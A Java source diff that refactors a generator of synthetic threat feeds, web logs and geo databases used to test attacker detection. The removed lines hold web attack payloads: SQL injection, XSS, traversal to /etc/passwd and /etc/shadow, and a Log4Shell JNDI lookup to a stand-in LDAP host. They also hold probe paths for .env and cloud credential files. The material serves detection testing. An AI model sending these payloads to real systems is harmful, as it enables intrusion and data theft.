@@ -10,7 +10,9 @@ import java.time.Instant;
 import java.time.ZoneOffset;
 import java.time.format.DateTimeFormatter;
 import java.util.ArrayList;
+import java.util.Collections;
 import java.util.Comparator;
+import java.util.EnumMap;
 import java.util.HashSet;
 import java.util.LinkedHashMap;
 import java.util.List;
@@ -20,14 +22,16 @@ import java.util.Random;
 import java.util.Set;
 
 /**
- * Writes a sample workspace: threat feeds in five real formats and 24 hours of a web shop's
- * access log in Apache/nginx combined format, with attackers planted among ordinary visitors.
- * The same seed and start give the same bytes.
+ * Writes a sample workspace: threat feeds in five real formats, 24 hours of a web shop's traffic
+ * logged by three services in three formats, with attackers of every behaviour category planted
+ * among ordinary shoppers, and the geo and ASN databases that place every client. The same seed
+ * and start give the same bytes. {@link LiveTraffic} keeps the logs growing afterwards.
  *
  * <p>Addresses lie in ordinary public space (45.x, 91.x, 185.x ...), not in the documentation
  * ranges, because the compiler leaves documentation space out of snapshots; they are fixtures
- * only. Visitors and feed filler come from disjoint first octets, so no ordinary visitor is
- * listed by accident.
+ * only, run by invented operators (documentation AS numbers) apart from the crawlers' Google and
+ * Microsoft. Shoppers, the proxy pool, feed filler and each attacker role draw from disjoint
+ * networks, so no shopper is listed by accident.
  *
  * <pre>
  * feeds/blocklist_de_ssh.ipset        FireHOL ipset with header    brute-forcers
@@ -35,95 +39,107 @@ import java.util.Set;
  * feeds/tor-exit-nodes.lst            TorDNSEL ExitAddress          Tor exits
  * feeds/stix-webattack-bundle.json    STIX 2.1 indicators           web attackers (sqli, xss)
  * feeds/crawlers-googlebot-bingbot.json  MISP warninglist (cidr)    verified crawler ranges: known good
- * logs/access.log                     ~20,000 lines over 24 h
+ * logs/access.log                     nginx combined                storefront, ~20,000 lines
+ * logs/api-gateway.json               JSON lines (nginx style)      the storefront's API, ~8,000 lines
+ * logs/alb.log                        AWS ALB access log            checkout and account, ~2,000 lines
+ * geo/city.mmdb                       GeoLite2-City layout          country, city, coordinates of every client
+ * geo/asn.mmdb                        GeoLite2-ASN layout           AS number and operator of every client
  * </pre>
+ *
+ * <p>Planted clients, each there to exercise one part of detection (see the package README):
+ * brute-forcers (listed, and guessing passwords), scanners (listed, probing paths and CVEs), web
+ * attackers (listed, injecting), exploiters (Log4Shell, CVE payloads; behaviour only), a
+ * credential-stuffing proxy pool (account takeover; behaviour only), scrapers and a fake
+ * Googlebot (behaviour only), open-proxy probers (behaviour only), Tor exits (listed, browsing
+ * politely), verified crawlers (listed once by mistake, allowlisted) and 450 shoppers.
  */
 public final class SampleWorkspace {
     /** What was planted, for the demo's printout and for tests. */
-    public enum Role { BRUTE_FORCE, SCANNER, WEB_ATTACK, TOR, CRAWLER, VISITOR }
+    public enum Role {
+        /** Guesses passwords at a login (listed in blocklist_de_ssh). */
+        BRUTE_FORCE,
+        /** Probes paths for secrets, admin panels and CVEs (listed in ipsum). */
+        SCANNER,
+        /** Injects SQL, script and traversal payloads (listed in ipsum and STIX). */
+        WEB_ATTACK,
+        /** Sends exploit payloads: Log4Shell, CVE probes, Shellshock (caught by behaviour). */
+        EXPLOIT,
+        /** One of a residential proxy pool trying leaked credentials once or twice each (account takeover). */
+        CREDENTIAL_STUFFING,
+        /** Scrapes the catalogue with Scrapy or a fake Googlebot user agent (caught by behaviour). */
+        SCRAPER,
+        /** Probes for an open proxy with CONNECT and absolute URIs (caught by behaviour). */
+        PROXY_PROBE,
+        /** A Tor exit relaying an ordinary shopper (listed in the Tor exit list). */
+        TOR,
+        /** A verified search-engine crawler: known good. */
+        CRAWLER,
+        /** An ordinary shopper. */
+        VISITOR
+    }
+
+    /**
+     * One log file of the workspace.
+     *
+     * @param path   the file
+     * @param format its format's name in the format registry ({@code combined}, {@code json}, {@code aws-alb})
+     * @param lines  lines written
+     */
+    public record LogFile(Path path, String format, long lines) {
+    }
 
     /**
      * A written workspace.
      *
      * @param root    the workspace directory
      * @param feeds   its feed folder (one spec compiles it all)
-     * @param log     the access log
-     * @param lines   lines in the access log
-     * @param clients every client address of the log with the role it plays
+     * @param log     the storefront's access log (nginx combined), the first of {@code logs}
+     * @param lines   lines in that access log
+     * @param clients every client address of the logs with the role it plays, in planting order
+     * @param logs    every log file with its format: {@code access.log}, {@code api-gateway.json}, {@code alb.log}
+     * @param cityDb  the geo database (GeoLite2-City layout)
+     * @param asnDb   the ASN database (GeoLite2-ASN layout)
+     * @param dormant addresses the feeds list that the logs have not seen yet, with the role they
+     *                will play when {@link LiveTraffic} brings them in
+     * @param origins where every client and dormant address is and who runs it, as the databases answer
      */
-    public record Written(Path root, Path feeds, Path log, long lines, Map<String, Role> clients) {
-        /** The addresses planted as attackers (listed in a threat feed). */
+    public record Written(Path root, Path feeds, Path log, long lines, Map<String, Role> clients, List<LogFile> logs,
+                          Path cityDb, Path asnDb, Map<String, Role> dormant, Map<String, Origin> origins) {
+        /** The logs folder (what {@code threatip scan} and {@code serve --watch} are pointed at). */
+        public Path logsDir() {
+            return log.getParent();
+        }
+
+        /** The addresses planted as attackers: listed in a threat feed or caught by a behaviour rule. */
         public List<String> attackers() {
             return clients.entrySet().stream()
                     .filter(e -> e.getValue() != Role.VISITOR && e.getValue() != Role.CRAWLER)
                     .map(Map.Entry::getKey).toList();
         }
+
+        /** The client addresses playing {@code role}, in planting order. */
+        public List<String> clients(Role role) {
+            return clients.entrySet().stream().filter(e -> e.getValue() == role).map(Map.Entry::getKey).toList();
+        }
     }
 
-    private static final String HOST = "https://shop.example.com";
-    private static final DateTimeFormatter CLF = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT)
-            .withZone(ZoneOffset.UTC);
     private static final DateTimeFormatter FIREHOL_DATE = DateTimeFormatter
             .ofPattern("EEE MMM d HH:mm:ss 'UTC' yyyy", Locale.ROOT).withZone(ZoneOffset.UTC);
     private static final DateTimeFormatter TOR_DATE = DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss", Locale.ROOT)
             .withZone(ZoneOffset.UTC);
     private static final DateTimeFormatter IPSUM_DATE = DateTimeFormatter
             .ofPattern("EEE, d MMM yyyy HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
-
-    /** First octets of ordinary visitors; feed filler never uses them. */
-    private static final int[] VISITOR_OCTETS = {2, 5, 31, 37, 62, 77, 78, 79, 80, 81, 82, 83, 84, 86, 88, 90, 92,
-            93, 95, 109, 176, 178, 188, 212, 213, 217};
-    private static final int[] FILLER_OCTETS = {101, 112, 114, 117, 118, 121, 122, 123, 124, 125, 139, 141, 150, 159,
-            161, 164, 167, 171, 175, 177, 181, 186, 187, 189, 190, 191, 200, 201, 222};
-
-    private static final String[] BROWSER_UAS = {
-        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
-        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
-        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
-        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
-        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
-        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.102 Mobile Safari/537.36",
-        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
-    };
-    private static final String TOR_UA = "Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0";
-    private static final String[] SCANNER_UAS = {
-        "Mozilla/5.0 zgrab/0.x",
-        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 nuclei",
-        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
-        "python-requests/2.31.0",
-    };
-    private static final String GOOGLEBOT_UA = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
-    private static final String BINGBOT_UA = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
-
-    private static final String[] PRODUCTS = {"linen-shirt", "wool-scarf", "leather-boots", "denim-jacket",
-        "canvas-tote", "silk-tie", "running-shoes", "rain-coat", "cotton-socks", "straw-hat", "trail-backpack",
-        "merino-sweater"};
-    private static final String[] CATEGORIES = {"men", "women", "shoes", "accessories", "sale", "new-in"};
-    private static final String[] SEARCHES = {"boots", "summer+dress", "gift", "scarf", "size+guide", "jacket"};
-    private static final String[] ASSETS = {"/static/css/main.css", "/static/js/app.js", "/static/js/vendor.js",
-        "/static/img/logo.svg", "/favicon.ico", "/static/fonts/inter.woff2"};
-    private static final String[] PROBES = {"/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php",
-        "/phpmyadmin/index.php", "/.aws/credentials", "/config.json", "/server-status", "/actuator/env",
-        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/admin/.env", "/backup.zip", "/.DS_Store",
-        "/cgi-bin/luci/;stok=/locale", "/solr/admin/info/system", "/owa/auth/logon.aspx", "/xmlrpc.php",
-        "/boaform/admin/formLogin", "/.svn/entries", "/debug/default/view"};
-    private static final String[] PAYLOADS = {
-        "/products?id=1%27%20OR%20%271%27=%271",
-        "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
-        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
-        "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
-        "/download?file=../../../../etc/passwd",
-        "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow",
-        "/products?id=1;SELECT%20pg_sleep(5)--",
-        "/category/men?sort=name%27%20AND%201=CONVERT(int,@@version)--",
-        "/api/v1/cart?item=${jndi:ldap://198.51.100.9/a}",
-    };
+    private static final long DAY_MILLIS = 24 * 3_600_000L;
+    private static final List<String> CRAWLERS = List.of("66.249.66.1", "66.249.66.87", "66.249.79.140",
+            "157.55.39.12", "207.46.13.77");
 
     private final Random rnd;
     private final Instant start;
     private final Set<String> used = new HashSet<>();
-    private final List<Line> log = new ArrayList<>();
+    private final Map<Service, List<Line>> lines = new EnumMap<>(Service.class);
     private final Map<String, Role> clients = new LinkedHashMap<>();
+    private final Map<String, Role> dormant = new LinkedHashMap<>();
+    private final Behaviors traffic;
 
     private record Line(long epochMillis, int seq, String text) {
     }
@@ -131,6 +147,10 @@ public final class SampleWorkspace {
     private SampleWorkspace(long seed, Instant start) {
         this.rnd = new Random(seed);
         this.start = start;
+        for (Service s : Service.values()) {
+            lines.put(s, new ArrayList<>());
+        }
+        this.traffic = new Behaviors(rnd, this::add);
     }
 
     /**
@@ -146,72 +166,115 @@ public final class SampleWorkspace {
     private Written writeAll(Path root) throws IOException {
         Path feeds = Files.createDirectories(root.resolve("feeds"));
         Path logs = Files.createDirectories(root.resolve("logs"));
+        Path geo = Files.createDirectories(root.resolve("geo"));
         Instant published = start.plus(Duration.ofHours(24));
 
-        List<String> brute = attackers(10, Role.BRUTE_FORCE, "45.141", "91.240", "193.32");
-        List<String> scanners = attackers(8, Role.SCANNER, "185.224", "185.180", "87.236");
-        List<String> web = attackers(6, Role.WEB_ATTACK, "194.26", "179.43", "103.147");
+        List<String> brute = attackers(10, Role.BRUTE_FORCE);
+        List<String> scanners = attackers(8, Role.SCANNER);
+        List<String> web = attackers(6, Role.WEB_ATTACK);
+        List<String> exploiters = attackers(4, Role.EXPLOIT);
+        List<String> scrapers = attackers(4, Role.SCRAPER);
+        List<String> proxyProbers = attackers(3, Role.PROXY_PROBE);
         List<String> tor = new ArrayList<>();
         for (int i = 0; i < 3; i++) {
-            String ip = "185.220.101." + (20 + 11 * i + rnd.nextInt(10));
+            String ip = Operators.TOR_PREFIX + "." + (20 + 11 * i + rnd.nextInt(10));
             used.add(ip);
             tor.add(ip);
             clients.put(ip, Role.TOR);
         }
-        List<String> crawlers = List.of("66.249.66.1", "66.249.66.87", "66.249.79.140", "157.55.39.12", "207.46.13.77");
-        crawlers.forEach(ip -> {
+        CRAWLERS.forEach(ip -> {
             used.add(ip);
             clients.put(ip, Role.CRAWLER);
         });
         List<String> visitors = new ArrayList<>();
         for (int i = 0; i < 450; i++) {
-            String ip = fresh(VISITOR_OCTETS);
+            String ip = fresh(Operators.VISITOR_OCTETS);
             visitors.add(ip);
             clients.put(ip, Role.VISITOR);
         }
+        List<String> pool = new ArrayList<>();
+        for (int i = 0; i < 60; i++) {
+            String ip = fresh(Operators.PROXY_POOL_OCTETS);
+            pool.add(ip);
+            clients.put(ip, Role.CREDENTIAL_STUFFING);
+        }
+        List<String> dormantBrute = dormant(12, Role.BRUTE_FORCE);
+        List<String> dormantScanners = dormant(12, Role.SCANNER);
 
-        writeIpset(feeds.resolve("blocklist_de_ssh.ipset"), brute, published);
-        writeIpsum(feeds.resolve("ipsum.txt"), scanners, web, crawlers.get(0), published);
+        List<String> listedBrute = new ArrayList<>(brute);
+        listedBrute.addAll(dormantBrute);
+        List<String> listedScanners = new ArrayList<>(scanners);
+        listedScanners.addAll(dormantScanners);
+        writeIpset(feeds.resolve("blocklist_de_ssh.ipset"), listedBrute, published);
+        writeIpsum(feeds.resolve("ipsum.txt"), listedScanners, web, CRAWLERS.get(0), published);
         writeTor(feeds.resolve("tor-exit-nodes.lst"), tor, published);
         writeStix(feeds.resolve("stix-webattack-bundle.json"), web.subList(0, 3), published);
         writeWarninglist(feeds.resolve("crawlers-googlebot-bingbot.json"));
 
-        while (log.size() < 16_000) {
-            visit(visitors.get(rnd.nextInt(visitors.size())), BROWSER_UAS[rnd.nextInt(BROWSER_UAS.length)],
-                    2 + rnd.nextInt(8));
+        for (int v = 0; lines.get(Service.SHOP).size() < 16_000 || v < visitors.size(); v++) {
+            // every shopper comes at least once, the rest of the day's sessions are drawn at random
+            traffic.visit(visitors.get(v < visitors.size() ? v : rnd.nextInt(visitors.size())),
+                    Behaviors.BROWSER_UAS[rnd.nextInt(Behaviors.BROWSER_UAS.length)], daytimeMillis(), 2 + rnd.nextInt(8));
         }
-        for (String ip : crawlers) {
-            crawl(ip, ip.startsWith("66.") ? GOOGLEBOT_UA : BINGBOT_UA);
+        for (String ip : CRAWLERS) {
+            traffic.crawl(ip, ip.startsWith("66.") ? Behaviors.GOOGLEBOT_UA : Behaviors.BINGBOT_UA,
+                    startMillis() + rnd.nextInt(3_600_000), 140, 330_000);
         }
-        scanners.forEach(this::scan);
-        brute.forEach(this::bruteForce);
-        web.forEach(this::webAttack);
+        for (int i = 0; i < scanners.size(); i++) {
+            traffic.scan(scanners.get(i), Behaviors.SCANNER_UAS[i % Behaviors.SCANNER_UAS.length], anyTimeMillis(),
+                    120 + rnd.nextInt(60));
+        }
+        brute.forEach(ip -> traffic.bruteForce(ip, anyTimeMillis(), 80 + rnd.nextInt(60)));
+        web.forEach(ip -> traffic.webAttack(ip, anyTimeMillis(), 40 + rnd.nextInt(30)));
+        exploiters.forEach(ip -> traffic.exploit(ip, anyTimeMillis(), 12 + rnd.nextInt(12)));
+        for (int i = 0; i < scrapers.size(); i++) {
+            traffic.scrape(scrapers.get(i), anyTimeMillis(), 150 + rnd.nextInt(150), i % 2 == 1);
+        }
+        proxyProbers.forEach(ip -> traffic.proxyProbe(ip, anyTimeMillis(), 4 + rnd.nextInt(9)));
+        traffic.stuffing(pool, anyTimeMillis(), 45 * 60_000);
         for (String ip : tor) {
             for (int s = 0; s < 3; s++) {
-                visit(ip, TOR_UA, 3 + rnd.nextInt(5));
+                traffic.visit(ip, Behaviors.TOR_UA, daytimeMillis(), 3 + rnd.nextInt(5));
             }
         }
 
-        log.sort(Comparator.comparingLong(Line::epochMillis).thenComparingInt(Line::seq));
-        Path file = logs.resolve("access.log");
-        try (BufferedWriter w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
-            for (Line l : log) {
-                w.write(l.text());
-                w.write('\n');
-            }
+        List<LogFile> files = new ArrayList<>();
+        for (Service s : Service.values()) {
+            files.add(writeLog(logs.resolve(s.fileName()), s));
         }
-        return new Written(root, feeds, file, log.size(), Map.copyOf(clients));
+        Map<String, Origin> origins = new LinkedHashMap<>();
+        clients.keySet().forEach(ip -> origins.put(ip, Operators.origin(ip)));
+        dormant.keySet().forEach(ip -> origins.put(ip, Operators.origin(ip)));
+        Path city = geo.resolve("city.mmdb");
+        Path asn = geo.resolve("asn.mmdb");
+        GeoDatabases.write(origins.keySet(), city, asn);
+        return new Written(root, feeds, files.get(0).path(), files.get(0).lines(),
+                Collections.unmodifiableMap(new LinkedHashMap<>(clients)), List.copyOf(files), city, asn,
+                Collections.unmodifiableMap(new LinkedHashMap<>(dormant)), Collections.unmodifiableMap(origins));
     }
 
-    private List<String> attackers(int n, Role role, String... prefixes) {
+    /** Attackers of one role, from that role's hosting blocks. */
+    private List<String> attackers(int n, Role role) {
+        List<String> prefixes = Operators.HOSTING_PREFIXES.get(role);
         List<String> out = new ArrayList<>();
         for (int i = 0; i < n; i++) {
             String ip;
             do {
-                ip = prefixes[i % prefixes.length] + "." + (1 + rnd.nextInt(254)) + "." + (1 + rnd.nextInt(254));
+                ip = prefixes.get(i % prefixes.size()) + "." + (1 + rnd.nextInt(254)) + "." + (1 + rnd.nextInt(254));
             } while (!used.add(ip));
             out.add(ip);
             clients.put(ip, role);
+        }
+        return out;
+    }
+
+    /** Listed addresses from the feed-filler networks that only live traffic will bring in. */
+    private List<String> dormant(int n, Role role) {
+        List<String> out = new ArrayList<>();
+        for (int i = 0; i < n; i++) {
+            String ip = fresh(Operators.FILLER_OCTETS);
+            out.add(ip);
+            dormant.put(ip, role);
         }
         return out;
     }
@@ -225,12 +288,24 @@ public final class SampleWorkspace {
         return ip;
     }
 
+    private LogFile writeLog(Path file, Service service) throws IOException {
+        List<Line> log = lines.get(service);
+        log.sort(Comparator.comparingLong(Line::epochMillis).thenComparingInt(Line::seq));
+        try (BufferedWriter w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
+            for (Line l : log) {
+                w.write(l.text());
+                w.write('\n');
+            }
+        }
+        return new LogFile(file, service.format(), log.size());
+    }
+
     // ---------------------------------------------------------------- feeds
 
     private void writeIpset(Path file, List<String> brute, Instant published) throws IOException {
         List<String> entries = new ArrayList<>(brute);
         for (int i = 0; i < 400; i++) {
-            entries.add(fresh(FILLER_OCTETS));
+            entries.add(fresh(Operators.FILLER_OCTETS));
         }
         entries.sort(Comparator.naturalOrder());
         StringBuilder b = new StringBuilder();
@@ -263,7 +338,7 @@ public final class SampleWorkspace {
         counts.put(crawler, 1); // a verified crawler some list got wrong: the warninglist must win
         for (int i = 0; i < 1200; i++) {
             int c = rnd.nextInt(100);
-            counts.put(fresh(FILLER_OCTETS), c < 70 ? 1 : c < 90 ? 2 : c < 97 ? 3 : 4 + rnd.nextInt(4));
+            counts.put(fresh(Operators.FILLER_OCTETS), c < 70 ? 1 : c < 90 ? 2 : c < 97 ? 3 : 4 + rnd.nextInt(4));
         }
         List<Map.Entry<String, Integer>> sorted = new ArrayList<>(counts.entrySet());
         sorted.sort(Map.Entry.<String, Integer>comparingByValue().reversed());
@@ -277,7 +352,7 @@ public final class SampleWorkspace {
     private void writeTor(Path file, List<String> tor, Instant published) throws IOException {
         List<String> exits = new ArrayList<>(tor);
         for (int i = 0; i < 60; i++) {
-            exits.add(fresh(FILLER_OCTETS));
+            exits.add(fresh(Operators.FILLER_OCTETS));
         }
         StringBuilder b = new StringBuilder();
         for (String ip : exits) {
@@ -342,94 +417,6 @@ public final class SampleWorkspace {
 
     // ---------------------------------------------------------------- traffic
 
-    /** A shopper: pages with their static assets, a few seconds to a minute apart, mostly by day. */
-    private void visit(String ip, String ua, int pages) {
-        long t = daytimeMillis();
-        String referer = rnd.nextInt(3) == 0 ? "https://www.google.com/" : "-";
-        for (int p = 0; p < pages; p++) {
-            String page = page();
-            add(t, ip, "GET", page, 200, 8_000 + rnd.nextInt(40_000), referer, ua);
-            for (String a : ASSETS) {
-                if (rnd.nextInt(3) != 0) {
-                    boolean cached = p > 0 && rnd.nextInt(4) != 0;
-                    add(t + 40 + rnd.nextInt(400), ip, "GET", a, cached ? 304 : 200,
-                            cached ? 0 : 2_000 + rnd.nextInt(120_000), HOST + page, ua);
-                }
-            }
-            referer = HOST + page;
-            t += 4_000 + rnd.nextInt(60_000);
-        }
-    }
-
-    private String page() {
-        int k = rnd.nextInt(20);
-        if (k < 4) {
-            return "/";
-        } else if (k < 11) {
-            return "/products/" + PRODUCTS[rnd.nextInt(PRODUCTS.length)];
-        } else if (k < 15) {
-            return "/category/" + CATEGORIES[rnd.nextInt(CATEGORIES.length)];
-        } else if (k < 17) {
-            return "/search?q=" + SEARCHES[rnd.nextInt(SEARCHES.length)];
-        } else if (k < 19) {
-            return "/cart";
-        }
-        return rnd.nextBoolean() ? "/about" : "/contact";
-    }
-
-    private void crawl(String ip, String ua) {
-        long t = startMillis() + rnd.nextInt(3_600_000);
-        add(t, ip, "GET", "/robots.txt", 200, 312, "-", ua);
-        add(t + 2_000, ip, "GET", "/sitemap.xml", 200, 18_344, "-", ua);
-        for (int i = 0; i < 140; i++) {
-            t += 60_000 + rnd.nextInt(540_000);
-            String page = page();
-            add(t, ip, "GET", page, rnd.nextInt(40) == 0 ? 404 : 200, 8_000 + rnd.nextInt(40_000), "-", ua);
-        }
-    }
-
-    /** A path scanner: a fast burst of probes for secrets and admin panels, mostly 404. */
-    private void scan(String ip) {
-        String ua = SCANNER_UAS[rnd.nextInt(SCANNER_UAS.length)];
-        long t = startMillis() + rnd.nextInt(22 * 3_600_000);
-        int probes = 120 + rnd.nextInt(60);
-        for (int i = 0; i < probes; i++) {
-            String path = PROBES[rnd.nextInt(PROBES.length)];
-            if (rnd.nextInt(5) == 0) {
-                path = "/" + PRODUCTS[rnd.nextInt(PRODUCTS.length)] + PROBES[rnd.nextInt(PROBES.length)];
-            }
-            int status = path.endsWith("/.git/config") || path.endsWith(".env") ? 403 : 404;
-            add(t, ip, rnd.nextInt(8) == 0 ? "POST" : "GET", path, status, 150 + rnd.nextInt(400), "-", ua);
-            t += 150 + rnd.nextInt(1_500);
-        }
-    }
-
-    /** A credential guesser: POST /login every second or two, answered 401, then 429. */
-    private void bruteForce(String ip) {
-        String ua = rnd.nextBoolean() ? "python-requests/2.31.0" : BROWSER_UAS[0];
-        long t = startMillis() + rnd.nextInt(20 * 3_600_000);
-        add(t, ip, "GET", "/login", 200, 5_412, "-", ua);
-        int attempts = 80 + rnd.nextInt(60);
-        for (int i = 0; i < attempts; i++) {
-            t += 700 + rnd.nextInt(2_000);
-            add(t, ip, "POST", "/login", i > 60 && rnd.nextInt(3) == 0 ? 429 : 401, 612, HOST + "/login", ua);
-        }
-    }
-
-    /** Injection and traversal payloads against the shop's parameters. */
-    private void webAttack(String ip) {
-        String ua = rnd.nextBoolean() ? "sqlmap/1.8.4#stable (https://sqlmap.org)" : BROWSER_UAS[rnd.nextInt(3)];
-        long t = startMillis() + rnd.nextInt(22 * 3_600_000);
-        visit(ip, ua, 2);
-        int n = 40 + rnd.nextInt(30);
-        for (int i = 0; i < n; i++) {
-            String p = PAYLOADS[rnd.nextInt(PAYLOADS.length)];
-            int status = p.startsWith("/download") ? 400 : rnd.nextInt(4) == 0 ? 500 : 200;
-            add(t, ip, "GET", p, status, 300 + rnd.nextInt(9_000), HOST + "/", ua);
-            t += 1_000 + rnd.nextInt(8_000);
-        }
-    }
-
     private long startMillis() {
         return start.toEpochMilli();
     }
@@ -440,12 +427,18 @@ public final class SampleWorkspace {
         return startMillis() + hour * 3_600_000L + rnd.nextInt(3_600_000);
     }
 
-    private void add(long millis, String ip, String method, String path, int status, int bytes, String referer,
-                     String ua) {
-        long clamped = Math.min(millis, startMillis() + 24 * 3_600_000L - 1);
-        String line = ip + " - - [" + CLF.format(Instant.ofEpochMilli(clamped)) + "] \"" + method + " " + path
-                + " HTTP/1.1\" " + status + " " + bytes + " \"" + referer + "\" \"" + ua + "\"";
-        log.add(new Line(clamped, log.size(), line));
+    /** A moment in the first 22 hours, so a burst ends within the day. */
+    private long anyTimeMillis() {
+        return startMillis() + rnd.nextInt(22 * 3_600_000);
+    }
+
+    /** Keeps a request in the day: one that would run past the end is logged at its last millisecond. */
+    private void add(Service service, Request r) {
+        long clamped = Math.min(r.millis(), startMillis() + DAY_MILLIS - 1);
+        Request in = clamped == r.millis() ? r : new Request(clamped, r.ip(), r.method(), r.target(), r.status(),
+                r.bytes(), r.referer(), r.userAgent());
+        List<Line> log = lines.get(service);
+        log.add(new Line(clamped, log.size(), service.line(in)));
     }
 
     private String hex(int n) {
